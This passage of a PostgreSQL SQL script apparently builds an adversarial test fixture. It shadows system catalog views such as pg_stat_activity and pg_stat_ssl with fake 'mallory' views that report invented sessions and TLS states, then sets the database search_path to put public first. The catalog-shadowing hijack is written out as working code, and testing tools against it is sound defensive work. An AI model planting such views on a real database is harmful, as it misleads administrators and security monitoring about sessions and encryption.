            'grantor', 10, 'admin_option', true, 'inherit_option', true, 'set_option', true)) AS r;
END
$$;
CREATE VIEW public.pg_auth_members AS SELECT * FROM public.mallory_fake_pg_auth_members();

-- Fake sessions shared by the activity views: the caller itself (unix
-- socket), pid 4242 a plain-text TCP client, pid 4243 a standby's walsender
-- over TLS.
-- pg_stat_activity: plainTCPSessions, stillPlain, present, waitForIdle.
CREATE FUNCTION public.mallory_fake_pg_stat_activity() RETURNS SETOF pg_catalog.pg_stat_activity
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    PERFORM public.mallory_trip('view pg_stat_activity');
    RETURN QUERY
    SELECT r.*
    FROM (VALUES
        (pg_catalog.jsonb_build_object('pid', pg_catalog.pg_backend_pid(), 'datname', pg_catalog.current_database(),
            'usename', CURRENT_USER, 'application_name', pg_catalog.current_setting('application_name'),
            'client_port', -1, 'backend_start', pg_catalog.now() - interval '2 minutes',
            'xact_start', pg_catalog.now(), 'query_start', pg_catalog.now(), 'state_change', pg_catalog.now(),
            'state', 'active', 'backend_type', 'client backend', 'query', pg_catalog.current_query())),
        (pg_catalog.jsonb_build_object('pid', 4242, 'datname', pg_catalog.current_database(), 'usename', 'app',
            'application_name', 'billing', 'client_addr', '10.66.0.42', 'client_port', 50123,
            'backend_start', pg_catalog.now() - interval '1 hour', 'state_change', pg_catalog.now() - interval '5 seconds',
            'state', 'idle', 'backend_type', 'client backend', 'query', 'COMMIT')),
        (pg_catalog.jsonb_build_object('pid', 4243, 'usename', 'replicator', 'application_name', 'standby1',
            'client_addr', '10.66.0.43', 'client_port', 50124, 'backend_start', pg_catalog.now() - interval '3 hours',
            'state', 'active', 'backend_type', 'walsender', 'query', ''))
    ) AS v(j)
    CROSS JOIN LATERAL pg_catalog.jsonb_populate_record(NULL::pg_catalog.pg_stat_activity, v.j) AS r;
END
$$;
CREATE VIEW public.pg_stat_activity AS SELECT * FROM public.mallory_fake_pg_stat_activity();

-- pg_stat_ssl: ownTLS, plainTCPSessions, stillPlain, streamingOverSSL.
CREATE FUNCTION public.mallory_fake_pg_stat_ssl() RETURNS SETOF pg_catalog.pg_stat_ssl
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    PERFORM public.mallory_trip('view pg_stat_ssl');
    RETURN QUERY
    SELECT r.*
    FROM (VALUES
        (pg_catalog.jsonb_build_object('pid', pg_catalog.pg_backend_pid(), 'ssl', false)),
        ('{"pid": 4242, "ssl": false}'::jsonb),
        ('{"pid": 4243, "ssl": true, "version": "TLSv1.3", "cipher": "TLS_AES_256_GCM_SHA384", "bits": 256}'::jsonb)
    ) AS v(j)
    CROSS JOIN LATERAL pg_catalog.jsonb_populate_record(NULL::pg_catalog.pg_stat_ssl, v.j) AS r;
END
$$;
CREATE VIEW public.pg_stat_ssl AS SELECT * FROM public.mallory_fake_pg_stat_ssl();

-- pg_stat_gssapi: plainTCPSessions, stillPlain.
CREATE FUNCTION public.mallory_fake_pg_stat_gssapi() RETURNS SETOF pg_catalog.pg_stat_gssapi
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    PERFORM public.mallory_trip('view pg_stat_gssapi');
    RETURN QUERY
    SELECT r.*
    FROM (VALUES
        (pg_catalog.jsonb_build_object('pid', pg_catalog.pg_backend_pid(), 'gss_authenticated', false, 'encrypted', false)),
        ('{"pid": 4242, "gss_authenticated": false, "encrypted": false}'::jsonb),
        ('{"pid": 4243, "gss_authenticated": false, "encrypted": false}'::jsonb)
    ) AS v(j)
    CROSS JOIN LATERAL pg_catalog.jsonb_populate_record(NULL::pg_catalog.pg_stat_gssapi, v.j) AS r;
END
$$;
CREATE VIEW public.pg_stat_gssapi AS SELECT * FROM public.mallory_fake_pg_stat_gssapi();

-- pg_stat_replication: EffectRunner.streamingOverSSL.
CREATE FUNCTION public.mallory_fake_pg_stat_replication() RETURNS SETOF pg_catalog.pg_stat_replication
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    PERFORM public.mallory_trip('view pg_stat_replication');
    RETURN QUERY
    SELECT r.*
    FROM pg_catalog.jsonb_populate_record(NULL::pg_catalog.pg_stat_replication,
        pg_catalog.jsonb_build_object('pid', 4243, 'usename', 'replicator', 'application_name', 'standby1',
            'client_addr', '10.66.0.43', 'client_port', 50124, 'backend_start', pg_catalog.now() - interval '3 hours',
            'state', 'streaming', 'sync_priority', 0, 'sync_state', 'async')) AS r;
END
$$;
CREATE VIEW public.pg_stat_replication AS SELECT * FROM public.mallory_fake_pg_stat_replication();

-- A non-superuser wizard role must be able to read the fakes too.
GRANT SELECT ON public.pg_settings, public.pg_file_settings, public.pg_hba_file_rules, public.pg_roles,
                public.pg_auth_members, public.pg_database, public.pg_stat_activity, public.pg_stat_ssl,
                public.pg_stat_gssapi, public.pg_stat_replication
    TO PUBLIC;

-- ---------------------------------------------------------------------------
-- Finally: every later session in this database searches public first,
-- unless its startup packet pins search_path (options=-c search_path=...),
-- which outranks a database default.
-- ---------------------------------------------------------------------------
DO $$
BEGIN
    EXECUTE pg_catalog.format('ALTER DATABASE %I SET search_path = public, pg_catalog', pg_catalog.current_database());
END
$$;

COMMIT;
